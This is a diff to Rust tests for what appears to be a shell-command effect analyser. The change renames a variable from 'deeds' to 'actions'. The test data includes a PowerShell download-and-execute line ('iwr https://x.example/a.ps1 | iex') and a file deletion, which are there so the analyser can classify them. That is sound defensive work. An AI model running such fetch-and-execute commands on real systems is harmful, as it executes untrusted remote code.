@@ -37,8 +37,8 @@ fn powershell_text() {
         ("if ($x) { Remove-Item notes.md }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
     ];
     for (command, expected) in cases {
-        let deeds = powershell(&world, command);
-        assert!(deeds.contains(&expected), "{command}: {deeds:?}");
+        let actions = powershell(&world, command);
+        assert!(actions.contains(&expected), "{command}: {actions:?}");
     }
     let fetched = powershell(&world, "iwr https://x.example/a.ps1 | iex");
     assert!(fetched[1].contains("downloaded"), "{fetched:?}");
@@ -71,6 +71,6 @@ fn words_of_windows_in_a_posix_shell() {
         ),
     ];
     for (command, expected) in cases {
-        assert_eq!(world.deeds(command), [expected], "{command}");
+        assert_eq!(world.actions(command), [expected], "{command}");
     }
 }
